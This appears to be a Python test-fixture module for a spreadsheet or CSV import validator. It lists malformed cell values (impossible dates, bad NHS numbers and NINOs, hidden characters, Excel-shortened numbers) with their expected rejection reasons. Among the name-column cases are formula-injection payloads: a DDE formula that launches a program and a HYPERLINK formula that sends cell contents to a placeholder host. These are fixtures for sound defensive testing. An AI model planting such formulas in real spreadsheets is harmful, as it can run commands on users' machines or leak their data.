"""What may be wrong, or odd, in one cell: a table of damages, each done to every kind of file with such a column."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, fields, replace

from families.invented.damage.clean import TRAITS, Traits
from families.invented.damage.shapes import Answer, DamagedFile, Row, Sheet, all_loaded, with_row

ROW = 2  # counted from 0: a child of the first family, named by the hub's reference
SHOWN = 200  # longer cells are shown in part
MEGABYTE = 1_000_000
_TRAITS = {field.name for field in fields(Traits)}


@dataclass(frozen=True, kw_only=True)
class Cell:
    """A damage to a cell of one column: a trait of the kind, or the column's name.

    Without a ``reason`` (a pattern) the row is loaded all the same, as ``becomes``, or as it was.
    """

    damage: str
    where: str
    value: str
    reason: str = ""
    becomes: str | int | None = None

    def spoil(self, sheet: Sheet) -> DamagedFile | None:
        """Return the damaged file; None where the kind has no such column."""
        column = self.column_in(sheet)
        if not column:
            return None
        spoilt = sheet.with_cells(ROW, {column: self.value})
        more_lines = self.value.count("\n") + self.value.count("\r")
        rows = tuple(
            replace(row, line=row.line + more_lines) if row.line > ROW + 2 else row
            for row in with_row(all_loaded(sheet), self.row(ROW, column))
        )
        return DamagedFile(kind=sheet.kind, damage=self.damage, content=spoilt.text().encode(), rows=rows)

    def column_in(self, sheet: Sheet) -> str:
        """Return the column that is damaged in a kind of file; nothing where it has none, or where it may be empty."""
        traits = TRAITS[sheet.kind]
        column = column_of(sheet, self.where)
        is_no_fault = self.reason.startswith("Empty") and traits.may_be_empty and column != traits.key
        return "" if is_no_fault else column

    def row(self, number: int, column: str) -> Row:
        """Return what becomes of a row, counted from 0, with the damage in a column."""
        if not self.reason:
            becomes = {} if self.becomes is None else {column: self.becomes}
            return Row(line=number + 2, clean=number, becomes=becomes, mends=(column,))
        value = self.value.strip()
        return Row(
            line=number + 2,
            clean=number,
            answer=Answer.REJECTED,
            column=column,
            value=value if len(value) <= SHOWN and "\x00" not in value else None,
            reason=self.reason,
        )

    @property
    def is_plain(self) -> bool:
        """Tell whether it can be done to any row of many, each on a line of its own."""
        return len(self.value) <= SHOWN and not {"\n", "\r"} & set(self.value) and bool(self.reason)


def column_of(sheet: Sheet, where: str) -> str:
    """Return the column that a trait or a name means in a kind of file; nothing where it has none."""
    column = getattr(TRAITS[sheet.kind], where) if where in _TRAITS else where
    return str(column) if column in sheet.header else ""


@dataclass(frozen=True, kw_only=True)
class Rewritten:
    """A cell written in another way that means the same, in every row."""

    damage: str
    where: str
    write: Callable[[str], str]

    def spoil(self, sheet: Sheet) -> DamagedFile | None:
        """Return the file; None where the kind has no such column."""
        column = column_of(sheet, self.where)
        if not column:
            return None
        rewritten = sheet
        for row in range(len(sheet.rows)):
            rewritten = rewritten.with_cells(row, {column: self.write(sheet.cell(row, column))})
        content = rewritten.text().encode()
        return DamagedFile(kind=sheet.kind, damage=self.damage, content=content, rows=all_loaded(sheet))


def _british(day: str, *, with_: str = "/") -> str:
    return with_.join(reversed(day.split("-")))


REWRITTEN = (
    Rewritten(damage="British dates", where="day", write=_british),
    Rewritten(damage="dates with full stops", where="day", write=lambda day: _british(day, with_=".")),
    Rewritten(damage="dates at midnight", where="day", write="{}T00:00:00".format),
    Rewritten(damage="spaces around cells", where="name", write="  {} \N{NO-BREAK SPACE}".format),
    Rewritten(damage="choices in capitals", where="choice", write=str.upper),
    Rewritten(damage="choices with spaces", where="choice", write=lambda choice: choice.replace("-", " ")),
    Rewritten(damage="UPNs in small letters", where="UPN", write=str.lower),
    Rewritten(damage="NHS numbers with spaces", where="NHSNumber", write=lambda n: f"{n[:3]} {n[3:6]} {n[6:]}"),
    Rewritten(
        damage="NINOs with spaces", where="NINO", write=lambda n: " ".join((n[:2], n[2:4], n[4:6], n[6:8], n[8:]))
    ),
    Rewritten(damage="postcodes without a space", where="Postcode", write=lambda code: code.replace(" ", "").lower()),
)


def _cells(where: str, *damages: tuple[str, str, str]) -> Iterator[Cell]:
    for damage, value, reason in damages:
        yield Cell(damage=damage, where=where, value=value, reason=reason)


FORMULA = "begins with . like a formula"
LONG_NUMBER = "short form of a long number"
CELLS: tuple[Cell, ...] = (
    *_cells(
        "day",
        ("29 February of a common year", "29/02/2019", "February 2019 has no day 29"),
        ("31 November", "31/11/2019", "November 2019 has no day 31"),
        ("month 25", "13/25/2019", "no month 25"),
        ("month written first", "02/13/2019", "no month 13"),
        ("ISO date with day and month swapped", "2019-17-05", "no month 17"),
        ("year of two digits", "17/05/19", "four digits"),
        ("Excel serial in CSV", "43602", "Excel's number for a day, perhaps 17 May 2019"),
        ("date in words", "3rd of May 2019", "Not a date; write 2020-03-31 or 31/03/2020"),
        ("month in words", "03-May-19", "Not a date; write"),
        ("date with a time", "17/05/2019 14:35", "time of day"),
        ("date of noughts", "00/00/0000", "no month 0"),
        ("before 1900", "1066-10-14", "Before 1900"),
        ("error cell for a date", "#VALUE!", "error of the spreadsheet"),
        ("date as a decimal", "43602,5", "Not a date"),
    ),
    *_cells(
        "past",
        ("in the future", "2031-02-03", "has not come"),
        ("no date where one is needed", "\N{NO-BREAK SPACE}", "Empty"),
    ),
    *_cells("ends", ("ends before it begins", "1999-01-01", "Before|Not later")),
    *_cells(
        "choice",
        ("unknown choice", "lodger", "Not one of "),
        ("choice with a typing error", "mothr", "Not one of "),
        ("choice as a number", "7", "Not one of "),
    ),
    *_cells(
        "name",
        ("formula", "=1+1", FORMULA),
        ("formula with plus", "+441632960001", FORMULA),
        ("formula with minus", "-1+1", FORMULA),
        ("formula with at", "@SUM(A1:A9)", FORMULA),
        ("formula that calls a program", "=cmd|' /C calc'!A0", FORMULA),
        ("formula that sends cells away", '=HYPERLINK("https://example.invalid/?"&A1,"open")', FORMULA),
        ("formula after a tab", "\t=1+1", FORMULA),
        ("NUL", "Hart\x00ley", "NUL"),
        ("control character", "Hart\x07ley", "cannot be seen"),
        ("right-to-left override", "Hart\u202eyel", "cannot be seen"),
        ("zero-width space", "Hart\u200bley", "cannot be seen"),
        ("name of 300 characters", "x" * 300, "300 characters long"),
        ("cell of a megabyte", "x" * MEGABYTE, "1,000,000 characters long"),
        ("error cell for a name", "#REF!", "error of the spreadsheet"),
    ),
    *_cells(
        "LastName",
        ("digits for a name", "12345", "A name has letters"),
        ("emoji for a name", "\N{GRINNING FACE}", "A name has letters"),
        ("word of a database for nothing", "NULL", "empty cell"),
    ),
    *_cells(
        "key",
        ("no reference", "", "Empty"),
        ("reference as Excel shortens it", "9.99E+09", LONG_NUMBER),
        ("error cell for a reference", "#N/A", "error of the spreadsheet"),
    ),
    *_cells("reference", ("formula for a reference", "=A1", FORMULA), ("long reference", "y" * 200, "characters long")),
    *_cells(
        "UPN",
        ("UPN with a wrong check letter", "A909038909131", "does not agree"),
        ("UPN as Excel shortens it", "9.09E+11", LONG_NUMBER),
        ("UPN cut short", "P90903891213", "a letter, eleven digits"),
    ),
    *_cells(
        "NHSNumber",
        ("NHS number with a wrong check digit", "9991234560", "does not agree"),
        ("NHS number as Excel shortens it", "9.99E+09", LONG_NUMBER),
        ("NHS number that lost a nought", "999123456", "ten digits"),
    ),
    *_cells("UPRN", ("UPRN as Excel shortens it", "9.999E+11", LONG_NUMBER), ("UPRN with letters", "99a", "digits")),
    *_cells(
        "NINO",
        ("NINO of no issued letters", "BG123456A", "begins or ends"),
        ("NINO as Excel shortens it", "1.23E+08", LONG_NUMBER),
        ("NINO without its last letter", "QQ123456", "two letters, six digits"),
    ),
    *_cells(
        "number",
        ("negative number", "-4", "below nought"),
        ("number in words", "four", "Not a whole number"),
        ("decimal comma", "4,5", "Not a whole number"),
        ("number far too large", "99999999999999", "Not between"),
        ("number in scientific notation", "1E+02", "Not a whole number|short form"),
    ),
    *_cells(
        "sessions",
        ("percentage as a fraction", "0.92", "percentage"),
        ("percentage with its sign", "92 %", "percentage"),
        ("percentage with a decimal comma", "92,5%", "percentage"),
        ("negative sessions", "-4", "below nought"),
        ("more sessions than there are", "400", "were possible|Not between"),
    ),
    *_cells(
        "pounds",
        ("amount with decimal comma", "£1.234,50", "pounds and pence"),
        ("amount owed that is negative", "-412.50", "not negative"),
        ("amount in words", "about four hundred", "pounds and pence"),
        ("amount as Excel shortens it", "4.1E+02", "pounds and pence|short form"),
        ("amount of another currency", "€412.50", "pounds and pence"),
    ),
    *_cells("hours", ("hours as a time", "16:30", "number of hours"), ("hours beyond a week", "200", "Not between")),
    *_cells("yes_no", ("yes in another language", "ja", "Not one of Y, N")),
    *_cells("Postcode", ("half a postcode", "ZY1", "Not a postcode"), ("postcode of noughts", "00000", "Not a postc")),
    *_cells("worker", ("unknown worker", "nobody@example.invalid", "Nobody signs in")),
    *_cells("Term", ("term that has no dates", "2019-20 Winter", "no dates for a term")),
    *_cells("District", ("unknown district", "Atlantis", "no district of this name")),
    # Odd, and right.
    Cell(damage="formula in a text", where="text", value="=1+1", becomes="=1+1"),
    Cell(damage="emoji in a text", where="text", value="well \N{GRINNING FACE}", becomes="well \N{GRINNING FACE}"),
    Cell(
        damage="emoji beside a name", where="LastName", value="Hart \N{GRINNING FACE}", becomes="Hart \N{GRINNING FACE}"
    ),
    Cell(damage="line break in a name", where="LastName", value="Hart\nLey", becomes="Hart Ley"),
    Cell(damage="line end of old Macs in a name", where="LastName", value="Hart\rLey", becomes="Hart Ley"),
    Cell(damage="inch mark in a name", where="LastName", value='Hart 5"', becomes='Hart 5"'),
    Cell(damage="yes as TRUE", where="yes_no", value="TRUE", becomes="Y"),
    Cell(damage="yes as 1", where="yes_no", value="1", becomes="Y"),
    Cell(damage="number with a decimal point", where="number", value="3.0", becomes=3),
    Cell(damage="number in Arabic-Indic digits", where="number", value="\u0663", becomes=3),
    Cell(damage="sessions that may be a percentage", where="sessions", value="86", becomes=86),
    Cell(damage="amount with sign and commas", where="pounds", value="£1,412.50", becomes=141250),
)
